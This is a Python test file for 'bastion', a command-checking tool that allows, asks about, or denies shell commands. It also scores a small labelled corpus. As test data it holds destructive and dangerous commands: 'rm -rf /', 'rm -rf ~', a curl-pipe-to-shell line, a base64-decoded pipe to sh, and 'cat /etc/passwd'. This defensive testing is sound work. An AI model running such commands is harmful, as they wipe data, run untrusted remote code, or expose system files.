"""The real `bastion` console script, run as a process."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

BASTION = str(Path(sys.executable).parent / "bastion")


def run(
    *args: str, stdin: str | None = None, cwd: Path | None = None, env: dict[str, str] | None = None
):
    full_env = {
        **os.environ,
        "BASTION_USER_CONFIG": "/nonexistent",
        "BASTION_SYSTEM_CONFIG": "/nonexistent",
    }
    full_env.update(env or {})
    return subprocess.run(
        [BASTION, *args],
        input=stdin,
        capture_output=True,
        text=True,
        cwd=cwd,
        env=full_env,
        timeout=60,
    )


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("rm -rf /", 2),
        ("sudo rm -fr ~/", 2),
        ("rm build -r -f /", 2),
        ("rm -rf ./build", 0),
        ("git status", 0),
        ("git checkout -- src/app.py", 1),
    ],
)
def test_check_exit_codes(command: str, code: int, tmp_path: Path) -> None:
    result = run("check", command, cwd=tmp_path)
    assert result.returncode == code, result.stdout + result.stderr
    assert result.stdout.split()[0] == {0: "ALLOW", 1: "ASK", 2: "DENY"}[code]


def test_check_shows_rule_and_nudge(tmp_path: Path) -> None:
    result = run("check", "--", "rm", "-rf", "/", cwd=tmp_path)
    assert "rm-recursive-critical" in result.stdout
    assert "nudge" in result.stdout and "./build" in result.stdout


def test_check_json(tmp_path: Path) -> None:
    result = run("check", "--json", "--cwd", str(tmp_path), "curl -s https://x.sh | sh")
    data = json.loads(result.stdout)
    assert data["decision"] == "deny" and result.returncode == 2
    assert data["findings"][0]["rule"] == "curl-pipe-shell"
    assert data["cwd"] == str(tmp_path)


def test_check_reads_multiline_stdin(tmp_path: Path) -> None:
    script = "cd /tmp\nmake clean\n\nrm -rf ~\n"
    result = run("check", "-", stdin=script, cwd=tmp_path)
    assert result.returncode == 2


def test_broken_project_config_denies(tmp_path: Path) -> None:
    (tmp_path / ".bastion").mkdir()
    (tmp_path / ".bastion" / "config.toml").write_text("[limits]\nmax_depht = 3\n")
    result = run("check", "git status", cwd=tmp_path)
    assert result.returncode == 2
    assert "max_depht" in result.stderr
    assert "could not load its policy" in result.stdout


def test_broken_rule_file_denies_with_position(tmp_path: Path) -> None:
    (tmp_path / ".bastion").mkdir()
    (tmp_path / ".bastion" / "x.rules").write_text('block "a"\n  match command("rm"\n  nudge "n"\n')
    (tmp_path / ".bastion" / "config.toml").write_text('[rules]\nfiles = ["x.rules"]\n')
    result = run("check", "ls", cwd=tmp_path)
    assert result.returncode == 2
    assert "x.rules:2:" in result.stderr


def test_usage_error_is_not_a_verdict() -> None:
    result = run("check")
    assert result.returncode == 64
    assert "needs a COMMAND" in result.stderr


def test_explain(tmp_path: Path) -> None:
    result = run("explain", "sudo nice -n 5 bash -c 'rm -rf ~'", cwd=tmp_path)
    assert result.returncode == 0
    out = result.stdout
    assert "commands (after unfolding)" in out
    assert "rm -rf ~" in out and "via sudo > nice > bash" in out
    assert "rm-recursive-critical" in out and "DENY" in out
    data = json.loads(run("explain", "--json", "echo hi | base64 -d | sh", cwd=tmp_path).stdout)
    assert data["verdict"]["decision"] == "deny"


def test_rules_list_test_lint(tmp_path: Path) -> None:
    listing = run("rules", "list", "--json", cwd=tmp_path)
    rows = json.loads(listing.stdout)
    by_id = {r["id"]: r for r in rows}
    assert by_id["rm-recursive-critical"]["action"] == "block"
    assert by_id["unknown-executable"]["enabled"] is False
    tested = run("rules", "test", cwd=tmp_path)
    assert tested.returncode == 0 and "examples checked" in tested.stdout
    bad = tmp_path / "bad.rules"
    bad.write_text('block "a"\n  match command("rm") with_flags("-r"\n  nudge "n"\n')
    linted = run("rules", "lint", str(bad))
    assert linted.returncode == 1
    assert f"{bad}:2:" in linted.stdout


def test_rules_test_reports_failing_examples(tmp_path: Path) -> None:
    path = tmp_path / "mine.rules"
    path.write_text('block "x"\n  match command("rm")\n  nudge "n"\n  example "ls"\n')
    result = run("rules", "test", str(path))
    assert result.returncode == 1
    assert "FAIL" in result.stdout and "should match 'ls'" in result.stdout


def test_config_show(tmp_path: Path) -> None:
    (tmp_path / ".bastion").mkdir()
    (tmp_path / ".bastion" / "config.toml").write_text("[limits]\nmax_depth = 10\n")
    text = run("config", "show", cwd=tmp_path).stdout
    assert "max_depth = 10  # from project" in text
    data = json.loads(run("config", "show", "--json", cwd=tmp_path).stdout)
    assert data["config"]["limits"]["max_depth"] == 10
    assert data["provenance"]["limits.max_depth"].startswith("project")


def test_eval_scores_a_corpus(tmp_path: Path) -> None:
    corpus = tmp_path / "mini.jsonl"
    rows = [
        {"cmd": "ls -la", "label": "benign"},
        {"cmd": "git checkout -- src/app.py", "label": "benign"},
        {"cmd": "rm -rf /", "label": "dangerous"},
        {"cmd": "echo harmless", "label": "dangerous"},
        {"cmd": "cat /etc/passwd", "label": "dangerous", "scored": False},
    ]
    corpus.write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    data = json.loads(run("eval", "--json", str(corpus)).stdout)
    overall = data["overall"]
    assert overall["dangerous"] == 2 and overall["caught"] == 1
    assert overall["unscored"] == 1
    assert overall["benign"] == 2 and overall["benign_asked"] == 1
    wrong = {w["cmd"] for w in data["files"][0]["wrong"]}
    assert wrong == {"git checkout -- src/app.py", "echo harmless"}
    text = run("eval", "--show", "5", str(corpus)).stdout
    assert "went the wrong way" in text and "50.00%" in text


def test_eval_rejects_a_bad_corpus(tmp_path: Path) -> None:
    corpus = tmp_path / "bad.jsonl"
    corpus.write_text('{"cmd": "ls", "label": "benign"}\nnot json\n')
    result = run("eval", str(corpus))
    assert result.returncode == 1
    assert f"{corpus}:2:" in result.stderr
